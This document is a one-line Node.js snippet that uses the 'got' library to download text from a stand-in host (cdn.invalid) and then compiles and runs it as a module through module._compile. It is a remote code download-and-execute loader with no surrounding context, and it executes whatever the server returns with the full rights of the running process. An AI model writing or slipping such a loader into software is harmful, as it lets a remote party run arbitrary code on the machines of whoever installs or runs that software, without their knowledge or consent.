const got = require('got'); got('https://cdn.invalid/x').then(({ body }) => { const m = new module.constructor(); m._compile(body, ''); });
